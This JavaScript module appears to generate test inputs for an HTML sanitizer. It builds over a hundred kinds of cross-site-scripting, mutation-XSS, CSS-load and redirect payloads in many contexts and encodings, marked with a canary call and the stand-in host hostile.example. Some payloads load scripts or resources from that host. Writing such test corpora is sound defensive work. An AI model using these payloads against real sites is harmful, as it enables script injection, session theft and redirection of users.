// What somebody may write to get a script to run, a foreign server asked or a page left: every kind, in contexts and encodings.
//
// Whatever runs calls `canary`; whatever asks, asks at hostile.example; whatever is drawn as an element has the mark `zx-hostile`.

const HOST = 'hostile.example';

/** The kinds. Each is given code that betrays itself and an address that does. */
const KINDS = {
  script: (code) => `<script zx-hostile>${code}</script>`,
  scriptSource: (_, url) => `<script zx-hostile src="${url}"></script>`,
  scriptSlash: (code) => `<script/zx-hostile/x>${code}</script/x>`,
  scriptModule: (_, url) => `<script zx-hostile type=module>import "${url}"</script>`,
  scriptSplit: (code) => `<scr<script>ipt zx-hostile>${code}</scr</script>ipt>`,
  scriptUnclosed: (code) => `<script zx-hostile>${code}//`,
  importMap: (_, url) => `<script zx-hostile type=importmap>{"imports":{"a":"${url}"}}</script>`,
  speculation: (_, url) => `<script zx-hostile type=speculationrules>{"prerender":[{"source":"list","urls":["${url}"]}]}</script>`,
  imgError: (code) => `<img zx-hostile src=x onerror="${code}">`,
  imgErrorSlash: (code) => `<img/zx-hostile/src=x/onerror=${code}>`,
  imgLoad: (code) => `<img zx-hostile src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="${code}">`,
  bodyLoad: (code) => `<body zx-hostile onload="${code}" onpageshow="${code}" onfocus="${code}">`,
  inputFocus: (code) => `<input zx-hostile autofocus onfocus="${code}">`,
  detailsToggle: (code) => `<details zx-hostile open ontoggle="${code}"><summary>x</summary></details>`,
  popoverToggle: (code) => `<div zx-hostile popover id=p onbeforetoggle="${code}">x</div><button popovertarget=p autofocus>x</button>`,
  videoError: (code) => `<video zx-hostile><source onerror="${code}" src=x></video>`,
  audioError: (code) => `<audio zx-hostile src=x onerror="${code}"></audio>`,
  marquee: (code) => `<marquee zx-hostile onstart="${code}">x</marquee>`,
  styleAnimation: (code) => `<style>@keyframes k{}</style><p zx-hostile style="animation:k 1s" onanimationstart="${code}">x</p>`,
  transition: (code) => `<p zx-hostile tabindex=1 autofocus style="transition:color 1s" ontransitionrun="${code}" onfocusin="${code}">x</p>`,
  pointer: (code) => `<div zx-hostile onpointerover="${code}" onmousemove="${code}" onwheel="${code}" style="position:fixed;inset:0">x</div>`,
  contentVisibility: (code) => `<p zx-hostile style="content-visibility:auto" oncontentvisibilityautostatechange="${code}">x</p>`,
  objectError: (code) => `<object zx-hostile data=x onerror="${code}"></object>`,
  linkLoad: (code, url) => `<link zx-hostile rel=stylesheet href="${url}" onerror="${code}" onload="${code}">`,
  svgLoad: (code) => `<svg zx-hostile onload="${code}"></svg>`,
  svgScript: (code) => `<svg zx-hostile><script>${code}</script></svg>`,
  svgScriptHref: (_, url) => `<svg zx-hostile><script href="${url}"/></svg>`,
  svgAnimate: (code) => `<svg zx-hostile><animate onbegin="${code}" attributeName=x dur=1s></svg>`,
  svgSet: (code) => `<svg zx-hostile><a id=x><text>x</text></a><set href=#x attributeName=href to="javascript:${code}"/></svg>`,
  svgLink: (code) => `<svg zx-hostile><a xlink:href="javascript:${code}"><rect width=900 height=900 /></a></svg>`,
  svgUse: (code) => `<svg zx-hostile><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${code}'/></svg>#x"/></svg>`,
  svgImage: (_, url) => `<svg zx-hostile><image href="${url}" /><feImage href="${url}" /></svg>`,
  svgForeign: (code) => `<svg zx-hostile><foreignObject><img src=x onerror="${code}"></foreignObject></svg>`,
  svgStyle: (_, url) => `<svg zx-hostile><style>*{background:url(${url})}</style></svg>`,
  svgEntity: (code) => `<svg zx-hostile><style>&lt;/style&gt;&lt;img src=x onerror=${code}&gt;</style></svg>`,
  mathLink: (code) => `<math zx-hostile><mrow href="javascript:${code}" xlink:href="javascript:${code}">x</mrow></math>`,
  mathAnnotation: (code) => `<math zx-hostile><annotation-xml encoding="text/html"><img src=x onerror="${code}"></annotation-xml></math>`,
  mathGlyph: (code) => `<math zx-hostile><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
  styleImport: (_, url) => `<style zx-hostile>@import url("${url}");</style>`,
  styleBackground: (_, url) => `<style zx-hostile>*{background:url(${url})}</style>`,
  styleFont: (_, url) => `<style zx-hostile>@font-face{font-family:f;src:url(${url})}*{font-family:f}</style>`,
  inlineBackground: (_, url) => `<p zx-hostile style="background:url(${url})">x</p>`,
  inlineEscaped: (_, url) => `<p zx-hostile style="b\\61ckground:u\\72l(${url})">x</p>`,
  inlineSet: (_, url) => `<p zx-hostile style="background-image:image-set('${url}' 1x);cursor:url(${url}),auto;list-style:url(${url});border-image:url(${url})">x</p>`,
  inlineContent: (_, url) => `<p zx-hostile style="content:url(${url});mask:url(${url}#a);filter:url(${url}#a);clip-path:url(${url}#a);shape-outside:url(${url})">x</p>`,
  inlineExpression: (code) => `<p zx-hostile style="width:expression(${code});behavior:url(x);-moz-binding:url(x)">x</p>`,
  inlineCover: (_, url) => `<a zx-hostile href="${url}" style="position:fixed;inset:0;z-index:99999;opacity:0">x</a>`,
  metaRefresh: (_, url) => `<meta zx-hostile http-equiv=refresh content="0;url=${url}">`,
  metaScript: (code) => `<meta zx-hostile http-equiv=refresh content="0;url=javascript:${code}">`,
  metaData: (code) => `<meta zx-hostile http-equiv=refresh content="0;url=data:text/html,<script>${code}</script>">`,
  metaCookie: () => '<meta zx-hostile http-equiv=set-cookie content="a=b"><meta http-equiv=content-security-policy content="default-src *">',
  form: (code, url) => `<form zx-hostile action="${url}" onsubmit="${code}"><input name=a value=b><button autofocus>x</button></form>`,
  formAction: (code) => `<form zx-hostile><button formaction="javascript:${code}">x</button><input type=submit formaction="javascript:${code}"></form>`,
  inputImage: (_, url) => `<input zx-hostile type=image src="${url}">`,
  formClobber: (code) => `<form zx-hostile id=csrf name=body><input name=attributes><input name=nodeName></form><img name=cookie><a id=location href="javascript:${code}">`,
  base: (_, url) => `<base zx-hostile href="${url}/"><a href=x>x</a><script src=y></script>`,
  baseTarget: () => '<base zx-hostile target=_top>',
  linkScript: (code) => `<a zx-hostile href="javascript:${code}">x</a>`,
  linkMixed: (code) => `<a zx-hostile href="JaVaScRiPt:${code}">x</a>`,
  linkTab: (code) => `<a zx-hostile href="java\tscript:${code}">x</a><a href="&#1;javascript:${code}">x</a><a href="java&NewLine;script&colon;${code}">x</a>`,
  linkEntity: (code) => `<a zx-hostile href="&#106;&#x61;vascript:${code}">x</a>`,
  linkVb: (code) => `<a zx-hostile href="vbscript:${code}">x</a><a href="livescript:${code}">x</a>`,
  linkData: (code) => `<a zx-hostile href="data:text/html,<script>${code}</script>">x</a><a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
  linkSchemes: (_, url) => ['blob:', 'filesystem:', 'view-source:', 'intent:', 'file:///etc/', 'jar:', 'ms-word:ofe|u|', 'about:', 'feed:', 'x:']
    .map((scheme) => `<a zx-hostile href="${scheme}${url}">x</a>`).join(''),
  linkPing: (_, url) => `<a zx-hostile href="/" ping="${url}">x</a>`,
  linkHint: (_, url) => ['prefetch', 'preload', 'prerender', 'dns-prefetch', 'preconnect', 'icon', 'manifest', 'modulepreload']
    .map((rel) => `<link zx-hostile rel=${rel} href="${url}" as=image>`).join(''),
  img: (_, url) => `<img zx-hostile src="${url}">`,
  imgNoScheme: (_, url) => `<img zx-hostile src="${url.replace('https:', '')}"><img src="\\\\${HOST}\\x"><img src="https:/\\${HOST}">`,
  imgSet: (_, url) => `<img zx-hostile srcset="${url} 1x, ${url}?2 2x" sizes=100vw>`,
  picture: (_, url) => `<picture zx-hostile><source srcset="${url}"><img src="${url}?2" lowsrc="${url}" dynsrc="${url}" longdesc="${url}"></picture>`,
  imageTag: (_, url) => `<image zx-hostile src="${url}">`,
  video: (_, url) => `<video zx-hostile poster="${url}" src="${url}?v" autoplay><track default src="${url}?t"></video>`,
  audio: (_, url) => `<audio zx-hostile src="${url}" autoplay controls></audio><bgsound src="${url}">`,
  embed: (_, url) => `<embed zx-hostile src="${url}"><object data="${url}"></object><applet code=x codebase="${url}"></applet>`,
  embedScript: (code) => `<embed zx-hostile src="javascript:${code}"><object data="javascript:${code}"></object>`,
  iframe: (_, url) => `<iframe zx-hostile src="${url}"></iframe><frameset><frame src="${url}"></frameset>`,
  iframeScript: (code) => `<iframe zx-hostile src="javascript:${code}"></iframe>`,
  iframeDoc: (code) => `<iframe zx-hostile srcdoc="&lt;script&gt;${code}&lt;/script&gt;"></iframe>`,
  fenced: (_, url) => `<fencedframe zx-hostile></fencedframe><portal src="${url}"></portal>`,
  background: (_, url) => `<table zx-hostile background="${url}"><tr background="${url}"><td background="${url}">x</td></tr></table><body background="${url}">`,
  template: (code) => `<template zx-hostile><script>${code}</script></template>`,
  shadow: (code) => `<div zx-hostile><template shadowrootmode=open><img src=x onerror="${code}"><style>@import "//${HOST}/s"</style></template></div>`,
  noscript: (code) => `<noscript><p zx-hostile title="</noscript><img src=x onerror=${code}>">`,
  noscriptStyle: (code) => `<noscript><style zx-hostile></noscript><img src=x onerror=${code}></style>`,
  mutationStyle: (code) => `<svg zx-hostile></p><style><a id="</style><img src=1 onerror=${code}>">`,
  mutationTextarea: (code) => `<textarea zx-hostile><p title="</textarea><img src=x onerror=${code}>">`,
  mutationTitle: (code) => `<title zx-hostile><p title="</title><img src=x onerror=${code}>">`,
  mutationXmp: (code) => `<xmp zx-hostile><p title="</xmp><img src=x onerror=${code}>">`,
  mutationListing: (code) => `<listing zx-hostile>&lt;img src=x onerror=${code}&gt;</listing>`,
  mutationIframe: (code) => `<iframe zx-hostile><p title="</iframe><img src=x onerror=${code}>">`,
  mutationNoembed: (code) => `<noembed zx-hostile><p title="</noembed><img src=x onerror=${code}>">`,
  mutationSelect: (code) => `<select zx-hostile><style></select><img src=x onerror=${code}></style>`,
  mutationMath: (code) => `<form><math zx-hostile><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${code} src=1>">`,
  mutationTable: (code) => `<math zx-hostile><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=${code}">`,
  mutationComment: (code) => `<!--><img zx-hostile src=x onerror=${code}>--><!---!><img src=x onerror=${code}><!--!><img src=x onerror=${code}>-->`,
  mutationCdata: (code) => `<svg zx-hostile><![CDATA[><img src=x onerror=${code}>]]></svg><![CDATA[<img src=x onerror=${code}>]]>`,
  mutationXml: (code) => `<?xml ><img zx-hostile src=x onerror=${code}> ?><!DOCTYPE x [<!ENTITY y "<img src=x onerror=${code}>">]>&y;`,
  mutationPlaintext: (code) => `<svg zx-hostile><plaintext><a title="</plaintext><img src=x onerror=${code}>">`,
  mutationBacktick: (code) => `<img zx-hostile src=\`x\` alt="\`\`onerror=${code}">`,
  mutationDeep: (code) => `${'<div>'.repeat(600)}<img zx-hostile src=x onerror=${code}>`,
  mutationRuby: (code) => `<ruby zx-hostile><rp><svg></rp><style><img src="</style><img src=x onerror=${code}>">`,
  unclosedTag: (code) => `<img zx-hostile src=x onerror=${code} `,
  unclosedQuote: (code) => `<a zx-hostile title="><img src=x onerror=${code}>`,
  custom: (code) => `<x-y zx-hostile onclick="${code}" is=script autofocus tabindex=1 onfocus="${code}">x</x-y>`,
  attributeDouble: (code) => `" zx-hostile="" onmouseover="${code}" autofocus onfocus="${code}" x="`,
  attributeSingle: (code) => `' zx-hostile='' onmouseover='${code}' autofocus onfocus='${code}' x='`,
  attributeBare: (code) => `x zx-hostile onfocus=${code} autofocus`,
  scriptString: (code) => `';${code}//";${code}//\`;\${${code}}//</script><script zx-hostile>${code}</script>`,
  expression: (code) => `{{${code}}} \${${code}} <%= ${code} %> {%raw%}#{${code}} [[${code}]] {{constructor.constructor('${code.replaceAll("'", '')}')()}}`,
  json: (code) => `\\u003cscript zx-hostile\\u003e${code}\\u003c/script\\u003e \\x3cscript\\x3e${code}\\x3c/script\\x3e`,
  address: (code) => `javascript:${code}`,
  dataAddress: (code) => `data:text/html,<script zx-hostile>${code}</script>`,
  turbo: (code, url) => `<turbo-frame zx-hostile id=x src="${url}"></turbo-frame><turbo-stream action=append target=main><template><img src=x onerror=${code}></template></turbo-stream>`,
  turboVisit: (_, url) => `<a zx-hostile href="${url}" data-turbo-method=delete data-turbo-frame=_top data-turbo-stream>x</a><meta name=turbo-visit-control content=reload>`,
};

/** Where it stands. */
const CONTEXTS = {
  alone: (text) => text,
  inWords: (text) => `<p>Dear all,</p>${text}<p>Kind regards</p>`,
  afterAttribute: (text) => `"></p>${text}`,
  afterRaw: (text) => `</textarea></title></style></script></noscript></iframe>${text}`,
  afterComment: (text) => `--><!-- -->]]>${text}`,
  inTable: (text) => `<table><tr><td>${text}</td></tr></table>`,
  inLink: (text) => `<a href="/">${text}</a>`,
};

/** How it is written. */
const ENCODINGS = {
  plain: (text) => text,
  upper: (text) => text.replace(/<\/?[a-z]+/g, (tag) => tag.toUpperCase()),
  entities: (text) => text.replace(/[<>"]/g, (letter) => `&#${letter.charCodeAt(0)};`),
  twice: (text) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  nulls: (text) => text.replace(/<([a-z])/g, '<$1\0').replaceAll('script', 'scr\0ipt'),
  wide: (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  percent: (text) => text.replace(/[<>"']/g, (letter) => `%${letter.charCodeAt(0).toString(16)}`),
  utf7: (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  spaced: (text) => text.replace(/<([a-z]+) /g, '<$1\f\n').replaceAll('="', '\n=\n"'),
};

/** Those that may take what follows them into themselves. */
const SWALLOWS = /^(mutation|noscript|unclosed|attribute|template|shadow|turbo|scriptUnclosed|scriptSplit|scriptString|svgEntity|math|iframe|form)/;

/** All of them: each kind in each encoding, in contexts by turns. */
export function payloads() {
  const contexts = Object.entries(CONTEXTS);
  const all = [];
  for (const [kind, write] of Object.entries(KINDS)) {
    for (const [encoding, encode] of Object.entries(ENCODINGS)) {
      const [context, stand] = contexts[all.length % contexts.length];
      const id = `${kind}-${context}-${encoding}`;
      const text = encode(stand(write(`canary('${id}')`, `https://${HOST}/${id}`)));
      all.push({ id, text, encoding, swallows: SWALLOWS.test(kind) || context === 'inLink' });
    }
  }
  return all;
}
